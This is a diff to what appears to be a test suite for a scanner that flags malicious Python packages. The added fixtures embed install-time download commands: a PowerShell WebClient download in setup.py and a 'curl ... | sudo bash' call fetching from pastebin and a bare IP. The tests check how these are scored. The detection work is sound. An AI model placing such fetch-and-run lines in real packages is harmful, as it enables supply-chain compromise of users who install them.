@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('a download that setup.py pipes into a shell is malware', async () => {
@@ -158,4 +158,60 @@ test('builds with Go and npm, tools from a code host, and accounts that a tool o
   });
 
   expect(await inspect('shell-payload', file)).toEqual([]);
+});
+
+describe('a command put together out of the names around it', () => {
+  const fetching = (address: string): string =>
+    python(
+      'import os, subprocess',
+      'def fetch(url, target):',
+      "    command = ['powershell', '-Command', '(new-object System.Net.WebClient).DownloadFile(%(url)r, %(target)r)' % vars()]",
+      '    subprocess.check_call(command)',
+      `fetch('${address}', 'setuptools-2.0.tar.gz')`,
+      'from setuptools import setup',
+      "setup(name='example')",
+    );
+
+  test('is read with them, quotes and all', async () => {
+    const file = sdist({ 'setup.py': fetching('https://cdn.tools.invalid/a.tar.gz') });
+
+    expect(await inspect('shell-payload', file)).toMatchObject([
+      {
+        class: 'malware',
+        context: 'install',
+        decoded:
+          "powershell -Command (new-object System.Net.WebClient).DownloadFile('https://cdn.tools.invalid/a.tar.gz', 'setuptools-2.0.tar.gz')",
+      },
+    ]);
+  });
+
+  test.each([
+    ['https://pypi.python.org/packages/source/s/setuptools/setuptools-2.0.tar.gz', 'suspicious'],
+    ['https://bootstrap.pypa.io/ez_setup.py', 'suspicious'],
+    ['https://pypi.python.org/packages/source/s/setuptools-tools/setuptools-2.0.tar.gz', 'malware'],
+    ['https://pypi.python.org.mirror.invalid/packages/source/s/setuptools/setuptools-2.0.tar.gz', 'malware'],
+  ])('weighs little where it fetches setuptools alone: %s', async (address, expected) => {
+    const found = await inspect('shell-payload', sdist({ 'setup.py': fetching(address) }));
+    const atInstall = found.find(({ context }) => context === 'install');
+
+    expect(atInstall?.class).toBe(expected);
+    if (expected === 'suspicious') expect(found.every(({ score }) => score < 5)).toBe(true);
+  });
+});
+
+test.each([
+  ['https://get.vendor-tools.com/install.sh', 4],
+  ['http://get.vendor-tools.com/install.sh', 5],
+  ['https://203.0.113.9/install.sh', 5],
+  ['https://pastebin.com/raw/abc', 5],
+])('an installer that a person starts, fetched from %s', async (address, score) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os',
+      'def install_runner():',
+      `    os.system('curl -fsSL ${address} | sudo bash')`,
+    ),
+  });
+
+  expect(await inspect('shell-payload', file)).toMatchObject([{ context: 'call', score }]);
 });
